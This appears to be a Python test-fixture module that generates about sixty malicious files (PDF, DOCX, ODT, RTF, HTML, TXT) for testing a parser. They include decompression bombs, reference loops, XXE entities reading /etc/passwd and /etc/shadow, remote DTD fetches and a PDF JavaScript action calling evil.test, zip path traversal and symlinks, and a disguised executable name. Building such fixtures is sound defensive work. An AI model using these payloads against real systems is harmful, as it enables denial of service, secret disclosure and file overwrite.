"""Sixty files that mean harm, made when asked for and never stored: bombs, loops, depths, lies, entities, names.

Each is a name and a function, so that a test holds one at a time. Bombs are small here and large only when unpacked.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial

from tests.data.forwards import writers

MIB = 1024 * 1024
_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
)
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def deflated_zeros(size: int, *, raw: bool = False, unit: bytes = b"\x00") -> bytes:
    """A deflate stream that unpacks to `size` bytes of `unit`, made without unpacking it: a flushed block repeats
    itself."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15 if raw else 15)
    block = unit * (MIB // len(unit))
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (size // MIB - 1) + packer.flush(zlib.Z_FINISH)


def _pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%b\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    tail = trailer.replace(b"SELF", b"%d" % start)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, tail, start))
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), extra, data)


def _content(data: bytes, extra: bytes = b"", font: bytes = _FONT) -> bytes:
    return _pdf(_CATALOG, _PAGES, _PAGE, _stream(data, extra), font)


_WORDS = b"BT /F1 9 Tf 1 0 0 1 9 9 Tm (Maria Silva maria@example.test) Tj ET\n"


def _pdfs() -> Iterator[tuple[str, Callable[[], bytes]]]:
    flate = b"/Filter /FlateDecode"
    twice = b"/Filter [/FlateDecode /FlateDecode]"
    thrice = b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    bomb = partial(deflated_zeros, 2048 * MIB)
    yield "flate-bomb.pdf", lambda: _content(bomb(), flate)
    yield "flate-spaces.pdf", lambda: _content(deflated_zeros(70 * MIB, unit=b" "), flate)
    yield "flate-operators.pdf", lambda: _content(deflated_zeros(64 * MIB, unit=_WORDS.ljust(128)), flate)
    yield "flate-twice.pdf", lambda: _content(zlib.compress(bomb(), 9), twice)
    yield "flate-thrice.pdf", lambda: _content(zlib.compress(zlib.compress(bomb(), 9), 9), thrice)
    yield "lzw-bomb.pdf", lambda: _content(b"\x80\x0b\x60\x50\x22\x0c" * 400_000, b"/Filter /LZWDecode")
    yield "runlength-bomb.pdf", lambda: _content(b"\x81\x20" * 4_000_000, b"/Filter /RunLengthDecode")
    yield "hex-of-hex.pdf", lambda: _content(b"20" * 8 * MIB, b"/Filter /ASCIIHexDecode")
    columns = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 >>"
    yield "predictor.pdf", lambda: _content(zlib.compress(b"\x02" * MIB), columns)
    yield "operators.pdf", lambda: _content(_WORDS * 150_000)
    yield "page-loop.pdf", lambda: _pdf(_CATALOG, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")
    yield "prev-loop.pdf", lambda: _pdf(_CATALOG, _PAGES, _PAGE, _stream(_WORDS), _FONT, trailer=b"/Prev SELF")
    length = b"<< /Length 4 0 R >>\nstream\n" + _WORDS + b"\nendstream"
    yield "length-loop.pdf", lambda: _pdf(_CATALOG, _PAGES, _PAGE, length, _FONT)
    yield "deep-arrays.pdf", lambda: _pdf(_CATALOG, _PAGES, _PAGE, b"[" * 400_000 + b"]" * 400_000, _FONT)
    yield "deep-names.pdf", lambda: _pdf(b"<< /A " * 200_000 + b">>" * 200_000, _PAGES, _PAGE)
    yield (
        "many-pages.pdf",
        lambda: _pdf(_CATALOG, b"<< /Type /Pages /Kids [" + b"3 0 R " * 500_000 + b"] /Count 500000 >>", _PAGE),
    )
    yield (
        "count-lie.pdf",
        lambda: _pdf(_CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>", _PAGE, _stream(_WORDS), _FONT),
    )
    form = _stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 4 0 R >> >>")
    page = _PAGE.replace(b"/Font << /F1 5 0 R >>", b"/XObject << /X 4 0 R >>")
    yield "form-loop.pdf", lambda: _pdf(_CATALOG, _PAGES, page, form)
    cmap = b"1 begincodespacerange <0000> <ffff> endcodespacerange 1 beginbfrange <0000> <ffffffff> <0041> endbfrange"
    font = _FONT.replace(b"/Type1", b"/Type0 /Encoding /Identity-H /ToUnicode 6 0 R")
    yield "cmap-range.pdf", lambda: _pdf(_CATALOG, _PAGES, _PAGE, _stream(_WORDS), font, _stream(cmap))
    yield "objects.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj\n<<>>\nendobj\n" * 900_000
    yield "no-xref.pdf", lambda: b"%PDF-1.7\n" + b"startxref\n999999999999\n%%EOF" * 10
    yield "large.pdf", lambda: b"%PDF-1.7\n" + bytes(200 * MIB)
    yield "negative-length.pdf", lambda: _pdf(_CATALOG, _PAGES, _PAGE, b"<< /Length -5 >>\nstream\nx\nendstream", _FONT)
    script = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL('http://evil.test')) >> >>"
    )
    yield "script.pdf", lambda: _pdf(script, _PAGES, _PAGE, _stream(_WORDS), _FONT)


def _zip_of(parts: dict[str, bytes]) -> bytes:
    base = {"[Content_Types].xml": b"<Types/>"}
    return writers.packed({**base, **parts})


def _zip_with_stream(name: str, packed: bytes, told: int) -> bytes:
    """A zip whose one entry holds `packed` as its deflate stream and says that it unpacks to `told` bytes."""
    path = name.encode()
    local = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), told, len(path), 0) + path + packed
    )
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(packed), told, len(path), 0, 0, 0, 0, 0, 0
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(entry) + len(path), len(local), 0)
    return local + entry + path + end


def _overlapping() -> bytes:
    """Two thousand entries of the directory that all point at the same bytes."""
    packed = deflated_zeros(50 * MIB, raw=True)
    single = _zip_with_stream("word/document.xml", packed, 50 * MIB)
    at = single.index(b"PK\x01\x02")
    entry = single[at : single.index(b"PK\x05\x06")]
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1900, 1900, len(entry) * 1900, at, 0)
    return single[:at] + entry * 1900 + end


def _document(body: str, before: str = "") -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return f'<?xml version="1.0"?>{before}<w:document {space}><w:body>{body}</w:body></w:document>'.encode()


def _docx(body: str, before: str = "") -> bytes:
    return _zip_of({"word/document.xml": _document(body, before)})


def _traversal() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name in ("../../../../etc/cron.d/x", "/etc/passwd", "C:\\x.dll", "word/../../../x", "word/document.xml"):
            package.writestr(name, _document("<w:p><w:r><w:t>Maria Silva, maria@example.test</w:t></w:r></w:p>"))
    return out.getvalue()


def _symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        entry = zipfile.ZipInfo("word/document.xml")
        entry.external_attr = 0o120777 << 16
        package.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _zips() -> Iterator[tuple[str, Callable[[], bytes]]]:
    entity = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    laughs = "<!DOCTYPE d [<!ENTITY a0 'lol'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    yield (
        "bomb.docx",
        lambda: _zip_with_stream("word/document.xml", deflated_zeros(2048 * MIB, raw=True), 2048 * MIB - 1),
    )
    yield "lying-size.docx", lambda: _zip_with_stream("word/document.xml", deflated_zeros(2048 * MIB, raw=True), 900)
    yield "overlapping.docx", _overlapping
    yield "three-thousand.docx", lambda: _zip_of({f"word/{n}.xml": b"x" for n in range(3000)})
    yield "xxe.docx", lambda: _docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", entity)
    yield "laughs.docx", lambda: _docx("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", laughs + "]>")
    yield "remote-dtd.docx", lambda: _docx("<w:p/>", '<!DOCTYPE d SYSTEM "http://evil.test/d.dtd">')
    parameter = '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]>'
    yield "parameter-entity.docx", lambda: _docx("<w:p/>", parameter)
    wide = ('<?xml version="1.0" encoding="UTF-16"?>' + entity + "<d>&x;</d>").encode("utf-16")
    yield "xxe-utf16.docx", lambda: _zip_of({"word/document.xml": wide})
    header = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/shadow">]><d>&x;</d>'
    yield "xxe-header.docx", lambda: _zip_of({"word/document.xml": _document("<w:p/>"), "word/header1.xml": header})
    yield (
        "xxe-links.docx",
        lambda: _zip_of({"word/document.xml": _document("<w:p/>"), "word/_rels/document.xml.rels": header}),
    )
    yield "deep.docx", lambda: _docx("<w:p>" * 300_000 + "</w:p>" * 300_000)
    yield "unclosed.docx", lambda: _docx("<w:tbl><w:tr><w:tc>" * 200_000)
    yield "attributes.docx", lambda: _docx("<w:p " + " ".join(f'w:a{n}="x"' for n in range(200_000)) + "/>")
    yield "paragraphs.docx", lambda: _docx("".join(f"<w:p><w:r><w:t>{n}</w:t></w:r></w:p>" for n in range(400_000)))
    yield "traversal.docx", _traversal
    yield "symlink.docx", _symlink
    yield "nested.docx", lambda: _zip_of({"a.zip": _zip_of({"b.zip": _zip_of({"c": b"x" * 9999})})})
    yield "cut.docx", lambda: _docx("<w:p/>")[:-30]
    yield "bad-sum.docx", lambda: _zip_with_stream("word/document.xml", zlib.compress(_document("<w:p/>"))[2:-4], 170)
    manifest = {"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": b"<m/>"}
    yield "xxe.odt", lambda: _zip_of({**manifest, "content.xml": header})
    yield "bomb.odt", lambda: _zip_with_stream("content.xml", deflated_zeros(1024 * MIB, raw=True), 1024 * MIB)


def _others() -> Iterator[tuple[str, Callable[[], bytes]]]:
    yield "deep.rtf", lambda: b"{\\rtf1 " + b"{" * 3_000_000 + b"x" + b"}" * 3_000_000
    yield "unclosed.rtf", lambda: b"{\\rtf1 " + b"{\\*\\generator " * 900_000
    yield "escapes.rtf", lambda: b"{\\rtf1 " + b"\\u8364?" * 2_500_000 + b"}"
    yield "fields.rtf", lambda: b"{\\rtf1 " + b'{\\field{\\*\\fldinst HYPERLINK "' * 400_000
    yield "digits.rtf", lambda: b"{\\rtf1 \\fs" + b"9" * 8_000_000 + b" x}"
    yield "deep.html", lambda: b"<html><body>" + b"<div><b>" * 400_000 + b"x"
    yield "tables.html", lambda: b"<html><body>" + b"<table><tr><td>x" * 300_000
    yield "quote.html", lambda: b"<html><body><a href='" + b"x" * 20 * MIB
    yield "entities.html", lambda: b"<html><body>" + b"&lt;&amp;&#x1F600;" * 1_000_000
    yield "line.txt", lambda: b"Maria Silva " * (24 * MIB // 12)
    yield "digits.txt", lambda: b"Name: Maria Silva\n" + b"+1 415 555 0132 2019 - " * 900_000
    yield "nul.txt", lambda: b"Maria\x00Silva" * 100_000
    yield "../../../etc/passwd", lambda: b"MZ" + b"\x00" * 5000
    yield "resume\u202efdp.exe", lambda: b"MZ" + b"\x90" * 5000


def files() -> tuple[tuple[str, Callable[[], bytes]], ...]:
    """All of them: the name that the mail gives, and what makes the bytes."""
    return (*_pdfs(), *_zips(), *_others())
